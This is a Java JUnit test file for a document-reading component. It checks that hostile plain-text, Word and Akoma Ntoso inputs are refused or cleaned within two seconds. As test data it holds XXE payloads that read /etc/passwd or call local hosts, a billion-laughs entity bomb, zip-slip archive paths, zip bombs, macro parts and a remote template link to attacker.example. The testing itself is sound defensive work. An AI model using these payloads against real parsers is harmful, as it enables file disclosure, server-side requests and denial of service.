package org.undersigned.declaration.reading;

import static java.nio.charset.StandardCharsets.UTF_16;
import static java.nio.charset.StandardCharsets.UTF_8;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTimeout;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.time.Duration;
import java.util.Arrays;
import java.util.List;
import java.util.Random;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.Nested;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestFactory;
import org.undersigned.platform.Refusal;

/** Whatever is sent is read or refused, with the place, within two seconds. */
class HostileTextsTest {

    private static final Duration SOON = Duration.ofSeconds(2);
    private static final String AKN = "<akomaNtoso xmlns='http://docs.oasis-open.org/legaldocml/ns/akn/3.0'>";

    @Nested
    class Plain_text {

        @TestFactory
        Stream<DynamicTest> is_refused_where_it_is_none() {
            return Stream.of(
                    refused("empty", new byte[0], "line 1 reading_empty"),
                    refused("spaces", " \n\t\n ".getBytes(UTF_8), "line 1 reading_empty"),
                    refused("NUL", "One.\nTwo\0.".getBytes(UTF_8), "line 2 reading_unprintable"),
                    refused("bell", "One.\n\nTwo\u0007.".getBytes(UTF_8), "line 3 reading_unprintable"),
                    refused("binary", binary(), "line 1 reading_not_utf8"),
                    refused("half of a pair in UTF-8", bytes("One.\n", 0xED, 0xA0, 0x80), "line 2 reading_not_utf8"),
                    refused("half of a pair in UTF-16", bytes("", 0xFE, 0xFF, 0xD8, 0x00), "line 1 reading_not_utf16"),
                    refused("odd UTF-16", bytes("", 0xFF, 0xFE, 0x41), "line 1 reading_not_utf16"),
                    refused("PDF", "%PDF-1.7\n".getBytes(UTF_8), "file reading_other_format"),
                    refused("RTF", "{\\rtf1 Words}".getBytes(UTF_8), "file reading_other_format"),
                    refused("old DOC", bytes("", 0xD0, 0xCF, 0x11, 0xE0, 0xA1), "file reading_other_format"),
                    refused("HTML", "<!DOCTYPE html><p>Words".getBytes(UTF_8), "file reading_other_format"),
                    refused("too large", new byte[TextFiles.MAX_BYTES + 1], "null reading_too_large"),
                    refused("20,000 paragraphs", paragraphs(20_000), "line 20001 reading_too_many_lines"),
                    refused("400 paragraphs", paragraphs(400), null),
                    refused("one word of 2 MB", all("a"), "line 1 reading_passage_too_long"),
                    refused("2 MB of brackets", all("the )))"), "line 1 reading_passage_too_long"),
                    refused("2 MB of hyphens", all("the a-\n"), "line 10001 reading_too_many_lines"),
                    refused("9,000 hyphens", "the word a-\n".repeat(9_000).getBytes(UTF_8), null),
                    refused("9,000 labels", "1. the\n\n".repeat(9_000).getBytes(UTF_8), null),
                    refused("9,000 headings", "THE WORDS:\n\n".repeat(9_000).getBytes(UTF_8), null),
                    refused(
                            "lines as long as a block",
                            ("the Ab CD-)".repeat(900) + "\n").repeat(190).getBytes(UTF_8),
                            null),
                    refused("2 MB of names", all("The Ab CD "), "line 1 reading_passage_too_long"),
                    refused("2 MB of dots", all("the . "), "line 1 reading_passage_too_long"),
                    refused("2 MB of labels", all("1. the\n\n"), null),
                    refused("2 MB of empty lines", all("\n"), "line 1 reading_empty"),
                    refused("2 MB of capitals", all("THE WORDS\n"), null),
                    refused("2 MB of colons", all("of : the"), "line 1 reading_passage_too_long"));
        }

        @Test
        void in_any_script_is_read() {
            for (var text : List.of(
                    "Біз, төменде қол қойғандар, бұл туралы және осы үшін мәлімдейміз.",
                    "نحن الموقعين أدناه نعلن في هذا النص أن هذه الأشجار لا تقطع على الطريق.",
                    "Το κείμενο αυτό είναι για τα δέντρα και το δάσος.",
                    "The trees 🌳 of the town are not for sale 👩‍👩‍👧‍👦.")) {
                var read = TextFiles.read(text.getBytes(UTF_8), null, Rulebooks.LETTER);
                assertEquals(1, read.versions().size(), text);
                assertEquals(text, read.versions().get(0).passages().get(0).text());
            }
            var languages = Stream.of("Біз бұл туралы және осы үшін келдік.", "نحن في هذا النص أن على من.")
                    .map(text -> TextFiles.read(text.getBytes(UTF_8), null, Rulebooks.LETTER))
                    .map(read -> read.versions().get(0).lang())
                    .toList();
            assertEquals(List.of("kk", "ar"), languages);
        }

        @Test
        void in_utf_16_and_in_windows_1252_is_read() {
            var text = "Les arbres de la place ne sont pas à vendre, été comme hiver.";
            var wide = TextFiles.read(text.getBytes(UTF_16), null, Rulebooks.LETTER);
            assertEquals(text, wide.in("fr").orElseThrow().passages().get(0).text());
            var windows = TextFiles.read(
                    text.getBytes(java.nio.charset.Charset.forName("windows-1252")), null, Rulebooks.LETTER);
            assertEquals(text, windows.in("fr").orElseThrow().passages().get(0).text());
            assertTrue(windows.remarks().stream().anyMatch(one -> one.key().equals("reading_windows_1252")));
        }

        @Test
        void loses_the_marks_that_turn_it_round() {
            var read = TextFiles.read(
                    "The trees of\u202E the town \u2066are\u2069 ours.".getBytes(UTF_8), null, Rulebooks.LETTER);
            assertEquals(
                    "The trees of the town are ours.",
                    read.versions().get(0).passages().get(0).text());
            assertTrue(read.remarks().stream().anyMatch(one -> one.key().equals("reading_direction_marks")));
        }
    }

    @Nested
    class A_word_processors_file {

        @TestFactory
        Stream<DynamicTest> is_refused_where_it_is_dangerous_or_none() {
            var macro =
                    "<Types><Override ContentType='application/vnd.ms-word.document.macroEnabled.main+xml'/></Types>";
            return Stream.of(
                    refused("an empty archive", Archive.empty().bytes(), "file reading_not_docx"),
                    refused(
                            "another archive",
                            Archive.empty().with("xl/workbook.xml", "<a/>").bytes(),
                            "file reading_not_docx"),
                    refused("half of one", half(Archive.of("The words of it.").bytes()), null),
                    refused(
                            "a macro",
                            Archive.of("The words.")
                                    .with("word/vbaProject.bin", "x")
                                    .bytes(),
                            "word/vbaProject.bin reading_macros"),
                    refused(
                            "a macro's type",
                            Archive.empty()
                                    .with("[Content_Types].xml", macro)
                                    .with("word/document.xml", Archive.document(Archive.paragraph("The words.")))
                                    .bytes(),
                            "[Content_Types].xml reading_macros"),
                    refused(
                            "a path upward",
                            Archive.of("The words.")
                                    .with("../../etc/cron.d/x", "x")
                                    .bytes(),
                            "../../etc/cron.d/x reading_entry_escapes"),
                    refused(
                            "a path from the root",
                            Archive.of("The words.").with("/etc/passwd", "x").bytes(),
                            "/etc/passwd reading_entry_escapes"),
                    refused(
                            "a path of Windows",
                            Archive.of("The words.")
                                    .with("word\\..\\..\\x", "x")
                                    .bytes(),
                            "word\\..\\..\\x reading_entry_escapes"),
                    refused(
                            "a bomb",
                            Archive.empty()
                                    .with("word/document.xml", new byte[1 << 20], 100)
                                    .bytes(),
                            "word/document.xml reading_unpacks_too_large"),
                    refused(
                            "a bomb beside the text",
                            Archive.of("The words.")
                                    .with("word/media/a.png", new byte[1 << 20], 100)
                                    .bytes(),
                            "word/media/a.png reading_unpacks_too_large"),
                    refused("5,000 entries", entries(5_000), "file reading_too_many_entries"),
                    refused("an entity", xxe("word/document.xml"), "word/document.xml line 1 reading_document_type"),
                    refused("an entity in the styles", xxe("word/styles.xml"), null),
                    refused("20,000 paragraphs", docx(20_000), "paragraph 10001 reading_too_many_paragraphs"),
                    refused(
                            "nested 10,000 deep",
                            Archive.of("<w:x>".repeat(10_000)).bytes(),
                            "word/document.xml line 1 reading_too_deep"),
                    refused("no text", Archive.of("<w:p/>").bytes(), "file reading_empty"),
                    refused(
                            "half of a pair",
                            Archive.of("The &#xD800; words.").bytes(),
                            "word/document.xml line 1 reading_not_xml"),
                    refused("NUL", Archive.of("The &#0; words.").bytes(), "word/document.xml line 1 reading_not_xml"));
        }

        @Test
        void called_so_that_it_may_have_macros_is_refused() {
            var refusal = assertThrows(
                    Refusal.class,
                    () -> TextFiles.read(Archive.of("The words.").bytes(), "text.DOCM", Rulebooks.LETTER));
            assertEquals("reading_macros", refusal.remarks.get(0).key());
        }

        @Test
        void loses_what_lies_in_it_and_beside_it_and_tells() {
            var rels =
                    """
                    <Relationships><Relationship Type="http://x/attachedTemplate" TargetMode="External" \
                    Target="http://attacker.example/t.dotm"/></Relationships>""";
            var file = Archive.of(
                            "The trees of the town are ours.",
                            "<w:p><w:r><w:object/></w:r><w:del><w:r><w:delText>not</w:delText></w:r></w:del>"
                                    + "<w:ins><w:r><w:t>They are not for sale.</w:t></w:r></w:ins></w:p>")
                    .with("word/_rels/document.xml.rels", rels)
                    .with("word/embeddings/a.xlsx", "x")
                    .bytes();
            var read = TextFiles.read(file, "a.docx", Rulebooks.LETTER);
            assertEquals(
                    List.of("reading_refers_outside", "reading_embedded", "reading_tracked_changes"),
                    read.remarks().stream()
                            .map(Remark::key)
                            .filter(key -> !key.equals("reading_section_missing"))
                            .toList());
            assertTrue(read.versions().get(0).passages().toString().contains("They are not for sale."));
        }
    }

    @Nested
    class Akoma_Ntoso {

        @TestFactory
        Stream<DynamicTest> is_refused_where_it_is_dangerous_or_none() {
            var laughs = IntStream.rangeClosed(1, 9)
                    .mapToObj(i -> "<!ENTITY l" + i + " '" + ("&l" + (i - 1) + ";").repeat(10) + "'>")
                    .collect(Collectors.joining("", "<!DOCTYPE a [<!ENTITY l0 'ha'>", "]>"));
            return Stream.of(
                    xml(
                            "a file of ours",
                            "<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]>" + AKN + "&b;",
                            "line 1 reading_document_type"),
                    xml(
                            "a site",
                            "<!DOCTYPE a SYSTEM 'http://127.0.0.1:1/a.dtd'>" + AKN,
                            "line 1 reading_document_type"),
                    xml(
                            "a parameter",
                            "<!DOCTYPE a [<!ENTITY % b SYSTEM 'http://127.0.0.1:1/'> %b;]>" + AKN,
                            "line 1 reading_document_type"),
                    xml("billion laughs", laughs + AKN + "&l9;</akomaNtoso>", "line 1 reading_document_type"),
                    xml("an entity of nobody", AKN + "&b;</akomaNtoso>", "line 1 reading_not_xml"),
                    xml("another language", "<html xmlns='x'/>", "line 1 reading_not_akn"),
                    xml(
                            "another version",
                            "<akomaNtoso xmlns='http://www.akomantoso.org/2.0'/>",
                            "line 1 reading_not_akn"),
                    xml("broken", AKN + "<act>\n<p>The words", "line 2 reading_not_xml"),
                    xml("nothing", AKN + "</akomaNtoso>", "file reading_empty"),
                    xml("nested 10,000 deep", AKN + "<a>".repeat(10_000), "line 1 reading_too_deep"),
                    xml("half of a pair", AKN + "<p>The &#xD83D;</p></akomaNtoso>", "line 1 reading_not_xml"),
                    xml(
                            "20,000 paragraphs",
                            AKN + "<p>The words.</p>".repeat(20_000) + "</akomaNtoso>",
                            "line 1 reading_too_many_paragraphs"),
                    xml(
                            "2 MB of attributes",
                            AKN + "<p "
                                    + IntStream.range(0, 100_000)
                                            .mapToObj(i -> "a" + i + "='b' ")
                                            .collect(Collectors.joining())
                                    + "/>",
                            null),
                    xml(
                            "2 MB of one text",
                            AKN + "<p>" + "the of ".repeat(280_000) + "</p></akomaNtoso>",
                            "line 1 reading_passage_too_long"));
        }

        private DynamicTest xml(String name, String text, String complaint) {
            return refused(name, ("<?xml version='1.0'?>" + text).getBytes(UTF_8), complaint);
        }
    }

    /** @param complaint place and key; null where any refusal will do */
    private static DynamicTest refused(String name, byte[] file, String complaint) {
        return DynamicTest.dynamicTest(name, () -> {
            var refusal = assertTimeout(
                    SOON, () -> assertThrows(Refusal.class, () -> TextFiles.read(file, null, Rulebooks.LETTER)));
            var remark = refusal.remarks.get(0);
            if (complaint != null) {
                assertEquals(complaint, remark.field() + " " + remark.key());
            }
        });
    }

    private static byte[] xxe(String part) {
        var evil = "<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>";
        var file = Archive.empty();
        if (!part.equals("word/document.xml")) {
            file.with("word/document.xml", Archive.document(Archive.paragraph("The words.")));
        }
        return file.with(part, evil).bytes();
    }

    private static byte[] entries(int number) {
        var file = Archive.of("The words.");
        IntStream.range(0, number).forEach(i -> file.with("word/media/" + i, "x"));
        return file.bytes();
    }

    private static byte[] docx(int paragraphs) {
        return Archive.of(Archive.paragraph("The words of it.").repeat(paragraphs))
                .bytes();
    }

    private static byte[] half(byte[] file) {
        return Arrays.copyOf(file, file.length / 2);
    }

    private static byte[] paragraphs(int number) {
        return "The words of it stand here.\n\n".repeat(number).getBytes(UTF_8);
    }

    /** As much of it as may be sent. */
    private static byte[] all(String words) {
        return words.repeat(TextFiles.MAX_BYTES / words.length()).getBytes(UTF_8);
    }

    private static byte[] binary() {
        var bytes = new byte[10_000];
        new Random(1).nextBytes(bytes);
        bytes[0] = (byte) 0x81;
        return bytes;
    }

    private static byte[] bytes(String before, int... after) {
        var start = before.getBytes(UTF_8);
        var all = Arrays.copyOf(start, start.length + after.length);
        for (int i = 0; i < after.length; i++) {
            all[start.length + i] = (byte) after[i];
        }
        return all;
    }
}
